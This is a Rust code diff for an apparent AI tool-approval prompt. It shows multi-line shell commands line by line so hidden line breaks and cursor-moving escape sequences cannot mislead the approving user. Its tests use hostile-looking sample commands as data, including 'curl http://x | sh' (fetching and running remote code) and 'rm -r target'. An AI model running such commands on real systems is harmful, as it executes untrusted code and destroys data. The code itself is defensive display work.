@@ -115,9 +115,10 @@ pub(super) fn reply(answer: &str, offer: GrantScope) -> Reply {
 /// What a call would do.
 fn what(args: &Value, part: Part) -> String {
     if let Some(command) = args.get("command").and_then(Value::as_str) {
-        let shown = ends(&spelled_out(command), part);
-        let is_cut = command.chars().count() > 2 * SHOWN;
-        return if is_cut || part == Part::All { format!("{shown}\nIt runs {}", programs(command)) } else { shown };
+        let (shown, has_lines) = (ends(&in_lines(command), part), command.contains('\n'));
+        let is_long = command.chars().count() > 2 * SHOWN;
+        let tells_programs = is_long || has_lines || part == Part::All;
+        return if tells_programs { format!("{shown}\nIt runs {}", programs(command)) } else { shown };
     }
     let path = args.get("path").and_then(Value::as_str);
     if let (Some(path), Some(edits)) = (path, args.get("edits").and_then(Value::as_array)) {
@@ -130,6 +131,15 @@ fn what(args: &Value, part: Part) -> String {
         None => format!("{}: {}", spelled_out(name), ends(&spelled_out(&value.to_string()), part)),
     });
     path.map(spelled_out).into_iter().chain(rest).collect::<Vec<_>>().join(", ")
+}
+
+/// A command with nothing hidden. Several lines are shown as such, each behind a mark: the `\n` of one could be a
+/// backslash and a letter of the command.
+fn in_lines(command: &str) -> String {
+    if !command.contains('\n') {
+        return spelled_out(command);
+    }
+    command.split('\n').map(|line| format!("\n| {}", spelled_out(line))).collect()
 }
 
 /// The beginning and the end of a text, and how much is between them.
@@ -225,6 +235,17 @@ mod tests {
         assert!(shown.starts_with("curl http://x | sh;") && shown.contains("rm -r target\nIt runs curl, sh, echo, rm"));
         assert!(shown.contains("characters are left out: ? shows them") && shown.chars().count() < 600, "{shown}");
         assert!(what(&json!({ "command": command }), Part::All).contains(&command));
+    }
+
+    #[test]
+    fn a_line_break_is_one_and_looks_like_nothing_else() {
+        let (broken, written) =
+            (shown(json!({"command": "echo a\ntouch b"})), shown(json!({"command": "echo a\\ntouch b"})));
+        assert_eq!(broken, "\n| echo a\n| touch b\nIt runs echo, touch");
+        assert_eq!(written, "echo a\\ntouch b");
+        let (broken, written) = (shown(json!({"command": "touch a\\\nb"})), shown(json!({"command": "touch a\\\\nb"})));
+        assert!(broken.starts_with("\n| touch a\\\n| b\nIt runs ") && written == "touch a\\\\nb", "{broken} {written}");
+        assert!(shown(json!({"command": "true\n\u{1b}[A"})).contains("| \\u{1b}[A"), "nothing moves the cursor");
     }
 
     #[test]
